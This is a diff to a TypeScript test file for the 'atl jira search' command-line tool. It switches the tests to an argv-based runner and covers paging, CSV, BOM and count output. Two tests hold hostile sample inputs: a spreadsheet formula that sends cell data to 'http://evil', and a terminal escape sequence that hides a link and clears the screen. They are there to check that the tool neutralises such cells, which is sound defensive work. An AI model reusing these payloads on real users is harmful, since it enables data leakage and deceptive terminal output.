@@ -1,8 +1,6 @@
 import { describe, expect, test } from 'vitest';
-import { FakeHttp, fakeFactory, httpError, runArgv, runCommand, type FakeRequest } from '../../jira/fake.testutil.js';
+import { FakeHttp, fakeFactory, httpError, runArgv, type FakeRequest } from '../../testkit/fakes.testutil.js';
 import type { JiraIssue } from '../../jira/types.js';
-import search from './search.js';
-import sprintIssues from './sprint/issues.js';
 
 function makeIssues(n: number): JiraIssue[] {
   return Array.from({ length: n }, (_, i) => ({
@@ -46,7 +44,7 @@ const NOTICE = /showing (\d+) issues; more match — use --limit N or --all/;
 describe('atl jira search (Cloud)', () => {
   test('default limit 50: one request of 50, a table, and the truncation notice', async () => {
     const f = fakeFactory({ http: cloudSite(makeIssues(120)) });
-    const { code } = await runCommand(search, f, [], { project: 'ABC' });
+    const { code } = await runArgv(f, ['jira', 'search', '--project', 'ABC']);
     expect(code).toBe(0);
     const lines = f.out.text.trimEnd().split('\n');
     expect(lines[0]).toBe('KEY\tTYPE\tSTATUS\tPRIORITY\tASSIGNEE\tUPDATED\tSUMMARY');
@@ -64,7 +62,7 @@ describe('atl jira search (Cloud)', () => {
 
   test('--all follows nextPageToken in pages of 100 and prints every issue, no notice', async () => {
     const f = fakeFactory({ http: cloudSite(makeIssues(250)), json: true });
-    await runCommand(search, f, ['project = ABC'], { all: true });
+    await runArgv(f, ['jira', 'search', 'project = ABC', '--all']);
     const printed = JSON.parse(f.out.text) as JiraIssue[];
     expect(printed.map((i) => i.key)).toEqual(makeIssues(250).map((i) => i.key));
     expect(printed[0]).toEqual(makeIssues(1)[0]);
@@ -79,26 +77,26 @@ describe('atl jira search (Cloud)', () => {
 
   test('streamed JSON is laid out exactly like a whole-array JSON.stringify', async () => {
     const f = fakeFactory({ http: cloudSite(makeIssues(3)), json: true });
-    await runCommand(search, f, [], { all: true });
+    await runArgv(f, ['jira', 'search', '--all']);
     expect(f.out.text).toBe(`${JSON.stringify(makeIssues(3), null, 2)}\n`);
     const empty = fakeFactory({ http: cloudSite([]), json: true });
-    await runCommand(search, empty, [], {});
+    await runArgv(empty, ['jira', 'search']);
     expect(empty.out.text).toBe('[]\n');
   });
 
   test('no notice when exactly the limit matches', async () => {
     const f = fakeFactory({ http: cloudSite(makeIssues(50)) });
-    await runCommand(search, f, [], { limit: '50' });
+    await runArgv(f, ['jira', 'search', '--limit', '50']);
     expect(f.err.text).not.toMatch(NOTICE);
     const g = fakeFactory({ http: cloudSite(makeIssues(51)), json: true });
-    await runCommand(search, g, [], { limit: '50' });
+    await runArgv(g, ['jira', 'search', '--limit', '50']);
     expect(g.err.text).toMatch(NOTICE);
     expect(JSON.parse(g.out.text)).toHaveLength(50);
   });
 
   test('--csv with --fields: header and quoted cells; notice still on stderr', async () => {
     const f = fakeFactory({ http: cloudSite(makeIssues(5)) });
-    await runCommand(search, f, [], { csv: true, fields: 'summary,labels,updated', limit: '2' });
+    await runArgv(f, ['jira', 'search', '--csv', '--fields', 'summary,labels,updated', '--limit', '2']);
     expect(f.out.text).toBe(
       'KEY,SUMMARY,LABELS,UPDATED\n' +
         'ABC-1,"Issue number 1, with ""quotes""","a, b",2024-05-01T10:20:30.000+0000\n' +
@@ -111,74 +109,74 @@ describe('atl jira search (Cloud)', () => {
   test('--csv neutralises cells a spreadsheet would run as formulas; --csv-raw prints them exactly', async () => {
     const issues: JiraIssue[] = [{ id: '1', key: 'ABC-1', fields: { summary: '=HYPERLINK("http://evil/?"&A1)', labels: ['@x'] } }];
     const f = fakeFactory({ http: cloudSite(issues) });
-    await runCommand(search, f, [], { csv: true, fields: 'summary,labels' });
+    await runArgv(f, ['jira', 'search', '--csv', '--fields', 'summary,labels']);
     expect(f.out.text).toBe(`KEY,SUMMARY,LABELS\nABC-1,"'=HYPERLINK(""http://evil/?""&A1)",'@x\n`);
     const raw = fakeFactory({ http: cloudSite(issues) });
-    await runCommand(search, raw, [], { csvRaw: true, fields: 'summary,labels' });
+    await runArgv(raw, ['jira', 'search', '--csv-raw', '--fields', 'summary,labels']);
     expect(raw.out.text).toBe(`KEY,SUMMARY,LABELS\nABC-1,"=HYPERLINK(""http://evil/?""&A1)",@x\n`);
-    expect((await runCommand(search, fakeFactory({ json: true }), [], { csvRaw: true })).code).toBe(2);
+    expect((await runArgv(fakeFactory({ json: true }), ['jira', 'search', '--csv-raw'])).code).toBe(2);
   });
 
   test('--csv on a terminal shows control characters as escapes; piped CSV keeps the exact bytes', async () => {
     const summary = '\u001b]8;;http://evil\u0007click\u001b]8;;\u0007\u001b[2J';
     const issues: JiraIssue[] = [{ id: '1', key: 'ABC-1', fields: { summary } }];
     const tty = fakeFactory({ http: cloudSite(issues), tty: true });
-    await runCommand(search, tty, [], { csv: true, fields: 'summary' });
+    await runArgv(tty, ['jira', 'search', '--csv', '--fields', 'summary']);
     expect(tty.out.text).toBe('KEY,SUMMARY\nABC-1,\\x1b]8;;http://evil\\x07click\\x1b]8;;\\x07\\x1b[2J\n');
     const piped = fakeFactory({ http: cloudSite(issues) });
-    await runCommand(search, piped, [], { csv: true, fields: 'summary' });
+    await runArgv(piped, ['jira', 'search', '--csv', '--fields', 'summary']);
     expect(piped.out.text).toBe(`KEY,SUMMARY\nABC-1,${summary}\n`);
   });
 
   test('--bom starts the CSV with a UTF-8 byte-order mark (EF BB BF), then the same bytes as without it', async () => {
     const issues: JiraIssue[] = [{ id: '1', key: 'ABC-1', fields: { summary: 'Grüße, 日本語' } }];
     const plain = fakeFactory({ http: cloudSite(issues) });
-    await runCommand(search, plain, [], { csv: true, fields: 'summary' });
+    await runArgv(plain, ['jira', 'search', '--csv', '--fields', 'summary']);
     const bom = fakeFactory({ http: cloudSite(issues) });
-    expect((await runCommand(search, bom, [], { csv: true, bom: true, fields: 'summary' })).code).toBe(0);
+    expect((await runArgv(bom, ['jira', 'search', '--csv', '--bom', '--fields', 'summary'])).code).toBe(0);
     expect(Buffer.from(bom.out.text, 'utf8')).toEqual(
       Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(plain.out.text, 'utf8')]),
     );
     const raw = fakeFactory({ http: cloudSite(issues) });
-    await runCommand(search, raw, [], { csvRaw: true, bom: true, fields: 'summary' });
+    await runArgv(raw, ['jira', 'search', '--csv-raw', '--bom', '--fields', 'summary']);
     expect(raw.out.text).toBe('\uFEFFKEY,SUMMARY\nABC-1,"Grüße, 日本語"\n');
   });
 
   test('--bom without --csv (a table, --json, --count): exit 2 "--bom needs --csv", nothing on stdout', async () => {
-    for (const [json, options] of [
-      [false, { bom: true }],
-      [true, { bom: true }],
-      [false, { bom: true, csv: true, count: true }],
+    for (const [json, flags] of [
+      [false, ['--bom']],
+      [true, ['--bom']],
+      [false, ['--bom', '--count']],
     ] as const) {
       const f = fakeFactory({ http: cloudSite(makeIssues(3)), json });
-      const { code, error } = await runCommand(search, f, [], options);
+      const { code, error } = await runArgv(f, ['jira', 'search', ...flags]);
       expect(code).toBe(2);
       expect(error?.message).toMatch(/^--bom needs (--csv|the CSV listing; --count prints a number)$/);
       expect(f.out.text).toBe('');
     }
-    const table = await runCommand(search, fakeFactory({ http: cloudSite(makeIssues(3)) }), [], { bom: true });
+    const table = await runArgv(fakeFactory({ http: cloudSite(makeIssues(3)) }), ['jira', 'search', '--bom']);
     expect(table.error?.message).toBe('--bom needs --csv');
   });
 
   test('--count uses approximate-count without the ORDER BY, and says it is approximate (~N; "approximate": true)', async () => {
     const f = fakeFactory({ http: cloudSite(makeIssues(77)) });
-    await runCommand(search, f, [], { project: 'ABC', count: true });
+    await runArgv(f, ['jira', 'search', '--project', 'ABC', '--count']);
     expect(f.out.text).toBe('~77\n');
     expect(f.http.requests).toEqual([
       { method: 'POST', path: '/rest/api/3/search/approximate-count', query: {}, body: { jql: 'project = "ABC"' } },
     ]);
     const json = fakeFactory({ http: cloudSite(makeIssues(77)), json: true });
-    await runCommand(search, json, [], { project: 'ABC', count: true });
+    await runArgv(json, ['jira', 'search', '--project', 'ABC', '--count']);
     expect(JSON.parse(json.out.text)).toEqual({ count: 77, approximate: true });
   });
 
   test('--debug prints the JQL; bad flags are usage errors', async () => {
     const f = fakeFactory({ http: cloudSite(makeIssues(1)), debug: true });
-    await runCommand(search, f, [], { assignee: 'me', created: 'week' });
+    await runArgv(f, ['jira', 'search', '--assignee', 'me', '--created', 'week']);
     expect(f.err.text).toContain('jql: assignee = currentUser() AND created >= startOfWeek() ORDER BY updated DESC');
-    expect((await runCommand(search, fakeFactory(), [], { limit: '0' })).code).toBe(2);
-    expect((await runCommand(search, fakeFactory(), ['x'], { jql: 'y' })).code).toBe(2);
-    expect((await runCommand(search, fakeFactory({ json: true }), [], { csv: true })).code).toBe(2);
+    expect((await runArgv(fakeFactory(), ['jira', 'search', '--limit', '0'])).code).toBe(2);
+    expect((await runArgv(fakeFactory(), ['jira', 'search', 'x', '--jql', 'y'])).code).toBe(2);
+    expect((await runArgv(fakeFactory({ json: true }), ['jira', 'search', '--csv'])).code).toBe(2);
   });
 });
 
@@ -211,7 +209,7 @@ describe('unbounded JQL refused by the server', () => {
         throw httpError(400, "Error in the JQL Query: Expecting a field name but got 'AND'. (HTTP 400)");
       }),
     });
-    const { code, error } = await runCommand(search, f, ['project = A AND'], {});
+    const { code, error } = await runArgv(f, ['jira', 'search', 'project = A AND']);
     expect(code).toBe(2);
     expect(error?.message).toMatch(/^Error in the JQL Query/);
     expect(error?.hint).toBeUndefined();
@@ -269,7 +267,7 @@ describe('a JQL error is reported against the JQL the user typed (issue 11 item 
 describe('atl jira search (Data Center)', () => {
   test('GET /rest/api/2/search with startAt/maxResults; --all gets everything', async () => {
     const f = fakeFactory({ deployment: 'datacenter', http: dcSite(makeIssues(234)), json: true });
-    await runCommand(search, f, [], { all: true, status: ['Done'] });
+    await runArgv(f, ['jira', 'search', '--all', '--status', 'Done']);
     expect(JSON.parse(f.out.text)).toHaveLength(234);
     expect(f.http.requests.map((r) => [r.query.startAt, r.query.maxResults])).toEqual([
       [0, 100],
@@ -282,14 +280,14 @@ describe('atl jira search (Data Center)', () => {
 
   test('truncation notice from total; --count reads total', async () => {
     const f = fakeFactory({ deployment: 'datacenter', http: dcSite(makeIssues(130)) });
-    await runCommand(search, f, [], { limit: '120' });
+    await runArgv(f, ['jira', 'search', '--limit', '120']);
     expect(f.out.text.trimEnd().split('\n')).toHaveLength(121);
     expect(NOTICE.exec(f.err.text)![1]).toBe('120');
     const c = fakeFactory({ deployment: 'datacenter', http: dcSite(makeIssues(130)) });
-    await runCommand(search, c, [], { count: true });
+    await runArgv(c, ['jira', 'search', '--count']);
     expect(c.out.text).toBe('130\n');
     const json = fakeFactory({ deployment: 'datacenter', http: dcSite(makeIssues(130)), json: true });
-    await runCommand(search, json, [], { count: true });
+    await runArgv(json, ['jira', 'search', '--count']);
     expect(JSON.parse(json.out.text)).toEqual({ count: 130, approximate: false });
   });
 });
@@ -297,10 +295,10 @@ describe('atl jira search (Data Center)', () => {
 describe('atl jira sprint issues', () => {
   test('searches the sprint with the same output', async () => {
     const f = fakeFactory({ http: cloudSite(makeIssues(2)) });
-    await runCommand(sprintIssues, f, ['42'], {});
+    await runArgv(f, ['jira', 'sprint', 'issues', '42']);
     expect((f.http.requests[0]!.body as { jql: string }).jql).toBe('sprint = 42 ORDER BY updated DESC');
     expect(f.out.text.split('\n')[0]).toBe('KEY\tTYPE\tSTATUS\tPRIORITY\tASSIGNEE\tUPDATED\tSUMMARY');
-    expect((await runCommand(sprintIssues, fakeFactory(), ['x'], {})).code).toBe(2);
+    expect((await runArgv(fakeFactory(), ['jira', 'sprint', 'issues', 'x'])).code).toBe(2);
   });
 });
 
